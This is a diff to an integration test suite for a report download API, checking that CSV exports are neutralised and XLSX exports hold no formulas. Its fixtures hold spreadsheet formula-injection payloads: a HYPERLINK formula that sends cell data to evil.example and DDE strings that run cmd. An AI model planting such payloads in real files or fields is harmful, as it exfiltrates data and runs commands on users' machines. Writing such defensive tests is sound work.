@@ -10,7 +10,7 @@ import { actor, type Actor } from '../helpers/factories.js';
 
 const PROJECT = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
 const COMMUNE = "+cmd|' /C calc'!A0";
-const PROMOTER_LIKE = ['-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+const PROMOTER_LIKE = ["-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'];
 
 const binary = (res: NodeJS.ReadableStream, cb: (e: Error | null, b: Buffer) => void) => {
   const chunks: Buffer[] = [];
@@ -38,10 +38,16 @@ describe('exports safe to open: CSV neutralised, XLSX without formulas', () => {
   const csvOf = async (runId: string, who: { header: string; value: string }) => {
     const res = await t.http().get(`/api/v1/reports/runs/${runId}/download?format=csv`).set(who.header, who.value).expect(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
-    return parse(res.text, { columns: true }) as Record<string, string>[];
+    return parse<Record<string, string>>(res.text, { columns: true });
   };
   const xlsxOf = async (runId: string, who: { header: string; value: string }) => {
-    const res = await t.http().get(`/api/v1/reports/runs/${runId}/download?format=xlsx`).set(who.header, who.value).buffer(true).parse(binary as never).expect(200);
+    const res = await t
+      .http()
+      .get(`/api/v1/reports/runs/${runId}/download?format=xlsx`)
+      .set(who.header, who.value)
+      .buffer(true)
+      .parse(binary as never)
+      .expect(200);
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(res.body as never);
     return { sheet: workbook.worksheets[0] };
@@ -60,21 +66,38 @@ describe('exports safe to open: CSV neutralised, XLSX without formulas', () => {
     instructor = await actor(t, 'INSTRUCTOR');
     director = await actor(t, 'DIRECTOR');
     regionPartner = await actor(t, 'PARTNER', { type: 'REGION', funders: ['REGION'] });
-    reportingKey = (await t.http().post('/api/v1/api-keys').set('Authorization', admin.auth).send({ name: 'nightly', role: 'REPORTING', organizationId: admin.organizationId }).expect(201)).body.key;
+    reportingKey = (
+      await t.http().post('/api/v1/api-keys').set('Authorization', admin.auth).send({ name: 'nightly', role: 'REPORTING', organizationId: admin.organizationId }).expect(201)
+    ).body.key;
 
     // The project is named through the API (PATCH accepts any text: the export neutralises it).
     ({ id: ids.soon, projectId: ids.project } = await makeDossier(t, instructor, { commune: { inseeCode: '43001', departmentCode: '43', name: COMMUNE } }));
     await t.http().patch(`/api/v1/projects/${ids.project}`).set('Authorization', instructor.auth).send({ name: PROJECT }).expect(200);
     // Deliverables received 50 days ago: the récépissé is due in about ten days (daysLate < 0).
     await advance(t, ids.soon, 'STEP2_IN_PROGRESS', { instructor, director });
-    await t.http().post(`/api/v1/applications/${ids.soon}/deliverables`).set('Authorization', instructor.auth).send({ receivedOn: daysAgo(50) }).expect(200);
+    await t
+      .http()
+      .post(`/api/v1/applications/${ids.soon}/deliverables`)
+      .set('Authorization', instructor.auth)
+      .send({ receivedOn: daysAgo(50) })
+      .expect(200);
     // Late (70 days ago, récépissé issued today): daysLate > 0, the other names of the rule.
     for (const [i, name] of PROMOTER_LIKE.entries()) {
       const { id, projectId } = await makeDossier(t, instructor, { commune: { inseeCode: `4300${i + 2}`, departmentCode: '43', name } });
       await t.http().patch(`/api/v1/projects/${projectId}`).set('Authorization', instructor.auth).send({ name }).expect(200);
       await advance(t, id, 'STEP2_IN_PROGRESS', { instructor, director });
-      await t.http().post(`/api/v1/applications/${id}/deliverables`).set('Authorization', instructor.auth).send({ receivedOn: daysAgo(70) }).expect(200);
-      await t.http().post(`/api/v1/applications/${id}/receipt`).set('Authorization', director.auth).send({ issuedOn: today(), finessEj: '430000123', finessEt: '430000131' }).expect(200);
+      await t
+        .http()
+        .post(`/api/v1/applications/${id}/deliverables`)
+        .set('Authorization', instructor.auth)
+        .send({ receivedOn: daysAgo(70) })
+        .expect(200);
+      await t
+        .http()
+        .post(`/api/v1/applications/${id}/receipt`)
+        .set('Authorization', director.auth)
+        .send({ issuedOn: today(), finessEj: '430000123', finessEt: '430000131' })
+        .expect(200);
     }
     runs.DEADLINES = (await run('DEADLINES')).id;
     runs.FOLLOW_UP = (await run('FOLLOW_UP')).id;
